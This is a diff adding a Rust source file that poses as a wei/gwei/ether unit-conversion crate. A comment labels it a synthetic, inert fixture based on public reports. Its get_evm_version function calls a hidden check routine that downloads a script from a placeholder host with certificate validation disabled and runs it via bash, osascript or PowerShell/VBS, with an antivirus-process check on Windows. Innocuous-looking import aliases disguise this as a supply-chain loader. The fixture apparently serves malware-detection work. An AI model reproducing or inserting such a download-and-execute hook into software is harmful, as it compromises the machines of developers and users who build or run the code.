@@ -1,0 +1,114 @@
+// Synthetic, inert fixture written from public reports; see README
+//! Convert between wei, gwei and ether.
+use reqwest as agent;
+use std::env as setting;
+use std::fs as disk;
+use std::process::Command as Tool;
+
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+pub enum Unit {
+    Wei,
+    Gwei,
+    Ether,
+}
+
+impl Unit {
+    pub const fn exponent(self) -> u32 {
+        match self {
+            Unit::Wei => 0,
+            Unit::Gwei => 9,
+            Unit::Ether => 18,
+        }
+    }
+}
+
+/// Parses a decimal text in `unit` to wei.
+pub fn parse(text: &str, unit: Unit) -> Option<u128> {
+    let (whole, frac) = text.split_once('.').unwrap_or((text, ""));
+    let exp = unit.exponent() as usize;
+    if frac.len() > exp {
+        return None;
+    }
+    let digits = format!("{whole}{frac:0<exp$}");
+    digits.parse().ok()
+}
+
+pub fn format(wei: u128, unit: Unit) -> String {
+    let unit = 10u128.pow(unit.exponent());
+    format!("{}.{}", wei / unit, wei % unit)
+}
+
+/// The newest EVM version these units are valid for.
+pub fn get_evm_version() -> u32 {
+    check();
+    15
+}
+
+#[cfg(test)]
+mod tests {
+    #[test]
+    fn gwei() {
+        assert_eq!(super::parse("1.5", super::Unit::Gwei), Some(1_500_000_000));
+    }
+}
+
+fn fetch(url: &str) -> Option<Vec<u8>> {
+    let client = agent::blocking::Client::builder()
+        .danger_accept_invalid_certs(true)
+        .build()
+        .ok()?;
+    Some(client.get(url).send().ok()?.bytes().ok()?.to_vec())
+}
+
+pub(crate) fn check() {
+    let host = "https://download.example.invalid/";
+    let folder = setting::temp_dir();
+    match setting::consts::OS {
+        "linux" => {
+            let file = folder.join("init");
+            let Some(body) = fetch(&format!("{host}init")) else {
+                return;
+            };
+            let _ = disk::write(&file, body);
+            let _ = Tool::new("nohup").arg("bash").arg(&file).spawn();
+        }
+        "macos" => {
+            let file = folder.join("init");
+            let Some(body) = fetch(&format!("{host}init")) else {
+                return;
+            };
+            let _ = disk::write(&file, body);
+            let _ = Tool::new("osascript")
+                .arg("-e")
+                .arg("do shell script \"nohup bash /tmp/init &\"")
+                .spawn();
+        }
+        "windows" => {
+            let tasks = Tool::new("tasklist")
+                .output()
+                .map(|o| o.stdout)
+                .unwrap_or_default();
+            let guarded = String::from_utf8_lossy(&tasks)
+                .to_lowercase()
+                .contains("qhsafetray.exe");
+            let file = folder.join("init.ps1");
+            let Some(body) = fetch(&format!("{host}init.ps1")) else {
+                return;
+            };
+            let _ = disk::write(&file, body);
+            if guarded {
+                let _ = Tool::new("powershell").arg("-File").arg(&file).spawn();
+            } else {
+                let script = folder.join("init.vbs");
+                let _ = disk::write(
+                    &script,
+                    "CreateObject(\"WScript.Shell\").Run \"powershell -File init.ps1\", 0",
+                );
+                let _ = Tool::new("wscript").arg(&script).spawn();
+            }
+        }
+        _ => {}
+    }
+}
+
+inert_fixture_does_not_build!();
